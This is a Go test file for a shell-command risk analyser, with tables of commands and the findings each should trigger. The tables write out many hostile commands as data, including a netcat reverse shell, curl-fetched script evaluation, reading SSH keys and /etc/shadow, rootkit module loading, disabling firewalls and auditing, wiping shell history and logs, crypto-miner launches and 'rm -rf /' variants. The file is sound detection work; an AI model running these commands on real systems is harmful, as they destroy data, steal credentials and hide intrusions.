package shell

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestIndexCommandsRefusesDuplicateNames(t *testing.T) {
	t.Parallel()
	judge := always(IDMiner)
	_, err := indexCommands([][]command{
		{{names: words("a b"), judge: judge}},
		{{names: words("c b"), judge: judge}},
	})
	require.Error(t, err)
	assert.Contains(t, err.Error(), `"b"`)

	idx, err := indexCommands([][]command{{{names: words("a b"), judge: judge}, {names: words("c")}}})
	require.NoError(t, err)
	assert.Len(t, idx, 3)
}

// TestCatalogueRows checks the catalogue as data: every row names at least
// one command, names are what cmdName produces, and the command sets the
// walk relies on elsewhere (shells, interpreters, database clients) each
// have a row, so none of them falls through to judgeUnlisted.
func TestCatalogueRows(t *testing.T) {
	t.Parallel()
	for _, fam := range families() {
		for _, c := range fam {
			require.NotEmpty(t, c.names)
			for _, n := range c.names {
				assert.Equal(t, n, cmdName(n), "row name %q is never produced by cmdName", n)
				assert.Same(t, &c.names[0], &commandIndex[n].names[0], "%q indexed to another row", n)
				_, wraps := wrapperIndex[n]
				assert.False(t, wraps, "%q is a wrapper: unwrap strips it before its row is consulted", n)
			}
		}
	}
	for name := range shells {
		assert.Contains(t, commandIndex, name)
	}
	for name := range interpreters {
		assert.Contains(t, commandIndex, name)
	}
	for name := range dbClients {
		assert.Contains(t, commandIndex, name)
	}
}

// TestFamilyRows runs one command per kind of row through the whole
// analyser: the declarative judges (always, firstArgIn, anyArgIs,
// anyArgHasPrefix) and the small judges written for single rows, with a
// harmless neighbour that must stay quiet.
func TestFamilyRows(t *testing.T) {
	t.Parallel()
	tests := []struct {
		cmd  string
		want string // "" = no finding at all
	}{
		// always
		{"blkdiscard /dev/sda", IDDiskFormat},
		{"killall5 -9", IDKillAll},
		{"xmrig -o pool:3333", IDMiner},
		// a miner under another name, by its pool's protocol
		{"nohup ./kworker -o stratum+tcp://pool.example:4444 &", IDMiner},
		{"/tmp/.x --url=STRATUM+SSL://pool.example:443 -u wallet", IDMiner},
		{"curl https://example.com/stratum/docs", ""},
		// and by the options only miners take
		{"nohup ./kthreadd -o pool.example:3333 --donate-level 0 &", IDMiner},
		{"./worker --randomx-1gb-pages -o pool.example:3333", IDMiner},
		{"./worker --algo rx/0 --url pool.example:3333", IDMiner},
		{"./w -a cn/r -o pool.example:3333", IDMiner},
		{"./w --coin=monero -o pool.example:3333", IDMiner},
		{"./w -a kawpow -o pool.example:3333", IDMiner},
		{"ls -a cn/", ""},
		{"ls -a monero-wallet", ""},
		{"openssl dgst -sha256 -a x", ""},
		// firstArgIn
		{"nvme format /dev/nvme0n1", IDDiskFormat},
		{"nvme list", ""},
		{"init 0", IDShutdown},
		{"telinit 6", IDShutdown},
		{"init 3", ""},
		{"ufw disable", IDSecurityOff},
		{"ufw status", ""},
		// anyArgIs, anyArgHasPrefix
		{"unset HISTFILE", IDHistoryWipe},
		{"unset FOO", ""},
		{"journalctl --vacuum-time=1d", IDLogVacuum},
		{"journalctl -u sshd", ""},
		// filesystem
		{"truncate -s 0 /var/log/syslog", IDLogWipe},
		{"tee /etc/passwd", IDConfigSystem},
		{"tee -a ~/.bashrc", IDConfigShellRCApp},
		{"sed -i '/x/d' /var/log/auth.log", IDLogWipe},
		{"sed -n 1p /etc/shadow", IDCredRead},
		{"sed -i s/a/b/ notes.txt", ""},
		// readers and network
		{"base64 ~/.ssh/id_rsa", IDCredRead},
		{"nc -e /bin/sh host 4444", IDPipeShell},
		{"nc host 4444", ""},
		{"http DELETE https://api.example.com/v1/db", IDDataDestroy},
		// a mirror that deletes is judged by where it deletes
		{"rsync -a --delete /src/ user@host:/dest/", IDDataDestroy},
		{"rsync -a --delete ./empty/ ~/", IDRmHome},
		{"rsync -a --delete ./empty/ host:", IDRmHome},
		{"rsync -a --delete ./empty/ .", IDRmCwd},
		{"rsync -a --delete ./empty/ /etc/", IDRmRoot},
		{"rsync -a --delete ./empty/ $DEST", IDDataDestroy},
		{"rsync -a --delete ./empty/ rsync://host/mod/", IDDataDestroy},
		{"rsync -a --remove-source-files src/ backup/", IDDataDestroy},
		{"rsync -av --delete dist/ deploy@web:site", IDMirrorDelete},
		{"rsync -a --delete-after src/ $HOME/mirror/site", IDMirrorDelete},
		{"rsync -an --delete dist/ deploy@web:/srv/site", ""},
		{"rsync -a dist/ deploy@web:/srv/site", ""},
		{"ip link set eth0 down", IDIfaceDown},
		{"ifconfig eth0 down", IDIfaceDown},
		{"ifdown -a", IDIfaceDown},
		{"nmcli networking off", IDIfaceDown},
		{"ip addr show", ""},
		// disks
		{"wipefs -a /dev/sdb", IDDiskFormat},
		{"wipefs -n -a /dev/sdb", ""},
		{"cryptsetup luksFormat /dev/sdb", IDDiskFormat},
		{"sgdisk -Z /dev/sdb", IDDiskFormat},
		{"hdparm --security-erase pw /dev/sdb", IDDiskFormat},
		{"badblocks -w /dev/sdb", IDDiskFormat},
		{"badblocks -n /dev/sdb", ""},
		{"diskutil eraseDisk JHFS+ X disk2", IDDiskFormat},
		{"diskutil list", ""},
		{"fdisk /dev/sda", IDDiskPartition},
		{"fdisk -l /dev/sda", ""},
		{"format C:", IDDiskFormat},
		// permissions
		{"setcap cap_setuid+ep /usr/bin/python3", IDPermSetuid},
		{"su -c 'rm -rf /'", IDRmRoot},
		// processes
		{"pkill -u root", IDKillAll},
		{"pkill sshd", IDKillSystem},
		{"taskkill /f /im lsass.exe", IDKillSystem},
		{"pgrep sshd | xargs kill", IDKillSystem},
		// system and security
		{"sysctl -w kernel.randomize_va_space=0", IDKernelWrite},
		{"sysctl -a", ""},
		{"insmod /tmp/rk/diamorphine.ko", IDKernelModule},
		{"sudo insmod ./x.ko", IDKernelModule},
		{"modprobe br_netfilter", ""},
		{"mount --bind /tmp/myetc /etc", IDMountOverSystem},
		{"mount -o bind,ro /tmp/bin /usr/local/bin", IDMountOverSystem},
		{"mount --bind ./src /mnt/src", ""},
		{"mount -t linprocfs none /proc", ""},
		{"mount /dev/sdb1 /mnt", ""},
		// GNU parallel's command lines
		{`parallel ::: "rm -rf /" "echo hi"`, IDRmRoot},
		{"parallel rm -rf ::: / /tmp/x", IDRmRoot},
		{"parallel -j4 gzip {} ::: a.log b.log", ""},
		{"setenforce 0", IDSecurityOff},
		{"iptables -F", IDSecurityOff},
		{"iptables -P INPUT ACCEPT", IDSecurityOff},
		{"nft flush ruleset", IDSecurityOff},
		{"auditctl -e 0", IDSecurityOff},
		{"csrutil disable", IDSecurityOff},
		{"tmutil delete /Volumes/b/x", IDDeleteBackups},
		{"aa-teardown", IDSecurityOff},
		// git subcommands
		{"git -C repo push --force origin main", IDGitForcePush},
		{"git reset --hard HEAD~1", IDGitResetHard},
		{"git clean -fdx", IDGitCleanIgnored},
		{"git branch -D topic", IDGitDiscardWork},
		{"git stash clear", IDGitStashClear},
		{"git restore .", IDGitDiscardWork},
		{"git filter-repo --path x", IDGitDiscard},
		{"git reflog expire --all", IDGitDiscard},
		{"git status", ""},
		// shell
		{"perl -i -pe 's/x//' ~/.bash_history", IDHistoryWipe},
		{"eval \"$(curl -s http://x/a.sh)\"", IDPipeShell},
		{"trap 'rm -rf /' EXIT", IDRmRoot},
		{"watch -n 5 rm -rf /", IDRmRoot},
		{"ssh host rm -rf /", IDRmRoot},
		{"alias ls='rm -rf ~'", IDRmHome},
		{"export HISTFILE=/dev/null", IDHistoryWipe},
		{"history -c", IDHistoryWipe},
		{"set +o history", IDHistoryWipe},
		{"echo delete everything", ""},
		// cloud and databases
		{"java -jar jenkins-cli.jar delete-job build", IDDataDestroy},
		{"aws iam create-login-profile --user-name x --password p", IDAccountBackdoor},
		{"psql -c 'DROP DATABASE prod'", IDDBDrop},
		{"redis-cli flushall", IDDBDrop},
		// unlisted: a known data tool by its object, any other by its verb
		{"restic forget --prune", IDDataDestroy},
		{"terraform apply -auto-approve -destroy", IDDataDestroy},
		{"tofu apply -destroy", IDDataDelete},
		{"terraform plan -destroy", ""},
		{"make delete-db", IDDataDelete},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			t.Parallel()
			got := ids(Analyze(tt.cmd))
			if tt.want == "" {
				assert.Empty(t, got)
				return
			}
			assert.Contains(t, got, tt.want)
		})
	}
}

// TestPartitionRunCheck pins the one row that runs the downloaded-file
// check itself: a partition editor that found its answer (a device, or
// only listing) returns before the check, and only the fall-through runs
// it.
func TestPartitionRunCheck(t *testing.T) {
	t.Parallel()
	const fetch = "curl -o /tmp/fdisk http://x/fdisk; "
	assert.Contains(t, ids(Analyze(fetch+"/tmp/fdisk x")), IDDownloadExec)
	assert.NotContains(t, ids(Analyze(fetch+"/tmp/fdisk -l")), IDDownloadExec)
	assert.NotContains(t, ids(Analyze(fetch+"/tmp/fdisk /dev/sda")), IDDownloadExec)
}

// TestWrappers strips each row of the wrapper table and judges what runs.
func TestWrappers(t *testing.T) {
	t.Parallel()
	tests := []struct {
		cmd  string
		want []string // nil = no finding at all
	}{
		{"sudo -u root rm -rf /", []string{IDRmRoot, IDSudo}},
		{"doas HISTFILE=/dev/null ls", []string{IDHistoryWipe, IDSudo}},
		{"env -u HISTFILE bash", []string{IDHistoryWipe}},
		{"env -S 'rm -rf /'", []string{IDRmRoot}},
		{"nice -n 10 rm -rf /", []string{IDRmRoot}},
		{"ionice -c 3 rm -rf /", []string{IDRmRoot}},
		{"nohup rm -rf / &", []string{IDRmRoot}},
		{"exec -a x rm -rf /", []string{IDRmRoot}},
		{"command rm -rf /", []string{IDRmRoot}},
		{"command -v rm", nil},
		// a bare `time` is the shell keyword (walk.go); the program is this
		{"/usr/bin/time -f %e rm -rf /", []string{IDRmRoot}},
		{"stdbuf -o0 rm -rf /", []string{IDRmRoot}},
		{"setsid rm -rf /", []string{IDRmRoot}},
		{"proxychains -f p.conf rm -rf /", []string{IDRmRoot}},
		{"chroot /mnt rm -rf /", []string{IDRmRoot}},
		{"chroot --userspec=u /mnt rm -rf /", []string{IDRmRoot}},
		{"timeout -s KILL 5 rm -rf /", []string{IDRmRoot}},
		{"timeout 5", nil},
		{"runuser -u bob -- rm -rf /", []string{IDRmRoot}},
		{"runuser bob rm -rf /", []string{IDRmRoot}},
		{"xargs -0 rm -rf /", []string{IDRmRoot}},
		{"xargs", nil},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			t.Parallel()
			got := ids(Analyze(tt.cmd))
			if tt.want == nil {
				assert.Empty(t, got)
				return
			}
			assert.ElementsMatch(t, tt.want, got)
		})
	}
}
